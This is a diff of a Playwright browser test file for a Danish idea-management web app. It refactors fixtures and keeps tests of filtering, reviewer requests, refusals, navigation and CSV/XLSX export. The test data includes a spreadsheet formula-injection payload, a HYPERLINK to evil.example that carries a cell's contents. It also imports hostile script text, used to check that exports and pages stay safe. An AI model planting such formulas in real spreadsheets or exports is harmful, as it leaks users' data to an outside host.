@@ -14,23 +14,18 @@ from __future__ import annotations
 import csv
 import io
 import re
-from dataclasses import dataclass
 from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
 from playwright.sync_api import expect
-from sqlalchemy import text
 
-from ideaflow.bootstrap import bootstrap
-from ideaflow.config import Settings
-from ideaflow.views import idea_view
 from states.vocabulary import Decision, Role
-from storage.migrate import upgrade
 
-from signinweb import HOSTILE, sign_in
-from webtest import WebServer, assert_no_axe_violations, start_web_server, web_env
+from consoleweb import running_console, signed_in_people
+from signinweb import HOSTILE
+from webtest import assert_no_axe_violations
 
 pytestmark = pytest.mark.slow
 
@@ -40,24 +35,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Klik her")'
 SUBMITTED = ["Skolemad i Tårnby", "Fælles sagsbehandling", FORMULA, HOSTILE]
 
 
-@dataclass
-class Console:
-    server: WebServer
-    engine: object
-    ideas: dict[str, int]
-
-    def asked(self, idea_id: int) -> list[str]:
-        """The reviewers asked for the idea, as `ideaflow show` reads them (the read model, in this process)."""
-        return idea_view(self.engine, idea_id).reviewers_asked
-
-    def refusals(self, email: str) -> list[tuple[str, int]]:
-        with self.engine.connect() as connection:
-            return [tuple(row) for row in connection.execute(text(
-                "SELECT r.command, r.idea_id FROM refusals r JOIN people p ON p.id = r.person_id "
-                "WHERE p.email = :email ORDER BY r.id"), {"email": email})]
-
-
-def _seed(services) -> dict[str, int]:
+def _seed(app) -> dict[str, int]:
+    services = app.services
     now = datetime.now(UTC)
     services.create_pool(POOL, 2_000_000, 2026, now)
     services.create_pool(OTHER_POOL, 1_000_000, 2026, now)
@@ -80,29 +59,21 @@ def _seed(services) -> dict[str, int]:
 
 @pytest.fixture(scope="module")
 def console(tmp_path_factory):
-    home: Path = tmp_path_factory.mktemp("portfolio")
-    url = f"sqlite:///{home / 'ideaflow.db'}"
-    with bootstrap(Settings(_env_file=None, database_url=url, mail_dir=home / "mail")) as app:
-        upgrade(app.engine)
-        ideas = _seed(app.services)
-        server = start_web_server(web_env(url, home), home)
-        yield Console(server, app.engine, ideas)
-        assert server.stop() == 0, "`ideaflow web` exits 0 on SIGINT"
+    with running_console(tmp_path_factory.mktemp("portfolio"), _seed) as console:
+        yield console
 
 
 @pytest.fixture(scope="module")
-def karin(chromium, console):
-    """Karin's page, signed in once for the module; dialogs (an `alert` hostile text would run) are kept."""
+def signed_in(chromium, console):
+    yield from signed_in_people(chromium, console)
+
+
+@pytest.fixture(scope="module")
+def karin(chromium, signed_in):
+    """Karin's page, signed in once for the module (a dialog hostile text opened fails `signed_in`)."""
     with chromium.in_use():
-        context = chromium.browser.new_context(locale="da-DK", timezone_id="Europe/Copenhagen",
-                                               viewport={"width": 1280, "height": 800}, accept_downloads=True)
-        page = context.new_page()
-        page.dialogs = []
-        page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
-        sign_in(page, console.server, KARIN)
-    yield page
-    with chromium.in_use():
-        context.close()
+        return signed_in(KARIN)
+
 
 
 def _titles(page) -> list[str]:
@@ -122,7 +93,7 @@ def test_filter_by_keyboard_with_counts_per_stage(browser, karin, console):
     assert _count(page, "Alle faser") == "Alle faser (5)"
     assert _count(page, "Indsendt") == "Indsendt (4)" and _count(page, "Afvist") == "Afvist (1)"
     expect(page.get_by_role("link", name=HOSTILE)).to_have_count(1)  # shown as text, not run
-    assert page.locator("main img").count() == 0 and not page.dialogs
+    assert page.locator("main img").count() == 0
 
     # Keyboard only: type a search and press Enter; then a stage chosen with the arrow keys.
     page.get_by_label("Søg i titel og beskrivelse").focus()
@@ -150,7 +121,7 @@ def test_filter_by_keyboard_with_counts_per_stage(browser, karin, console):
 
 
 def test_select_two_ideas_and_ask_a_reviewer_with_refusals_shown_by_idea(browser, karin, console):
-    page, ideas = karin, console.ideas
+    page, ideas = karin, console.ids
     page.goto(console.server.url + "portfolio?sort=title")
     # Nothing selected, no reviewer: the form comes back with a summary linking to both.
     with page.expect_response(lambda r: r.request.method == "POST") as response:
@@ -177,10 +148,9 @@ def test_select_two_ideas_and_ask_a_reviewer_with_refusals_shown_by_idea(browser
     assert outcomes["Droner"].startswith("afvist – ")
     crafted = outcomes[f"Idé {ideas['Roskildes idé']}"]  # its title is not hers to see
     assert crafted.startswith("afvist – ") and "Roskilde puljen" in crafted
-    assert not page.dialogs
     for title in ("Skolemad i Tårnby", HOSTILE):
-        assert console.asked(ideas[title]) == [BENT]
-    assert console.asked(ideas["Roskildes idé"]) == []
+        assert console.show(ideas[title])["reviewers_asked"] == [BENT]
+    assert console.show(ideas["Roskildes idé"])["reviewers_asked"] == []
     assert ("assign", ideas["Roskildes idé"]) in console.refusals(KARIN)
     row = page.locator("tbody tr", has=page.get_by_role("link", name="Skolemad i Tårnby"))
     expect(row).to_contain_text("0 af 1 har svaret")
@@ -188,7 +158,7 @@ def test_select_two_ideas_and_ask_a_reviewer_with_refusals_shown_by_idea(browser
 
 
 def test_export_csv_and_xlsx_with_danish_headings_and_no_formulas(browser, karin, console):
-    page, ideas = karin, console.ideas
+    page, ideas = karin, console.ids
     page.goto(console.server.url + "portfolio?stage=submitted")
     with page.expect_download() as download:  # nothing selected: every idea of the filter
         page.get_by_role("button", name="Eksportér som CSV").click()
@@ -221,7 +191,7 @@ def test_an_idea_opened_from_the_list_leads_to_the_previous_and_next_in_it(brows
     page = karin
     page.goto(console.server.url + "portfolio?sort=title")
     page.get_by_role("link", name="Fælles sagsbehandling").click()
-    expect(page).to_have_url(re.compile(rf"/ideas/{console.ideas['Fælles sagsbehandling']}\?from=sort%3Dtitle$"))
+    expect(page).to_have_url(re.compile(rf"/ideas/{console.ids['Fælles sagsbehandling']}\?from=sort%3Dtitle$"))
     around = page.get_by_role("navigation", name="Idéer på din liste")
     expect(around.get_by_role("link", name="Forrige idé: Droner")).to_be_visible()
     around.get_by_role("link", name="Næste idé: Skolemad i Tårnby").click()
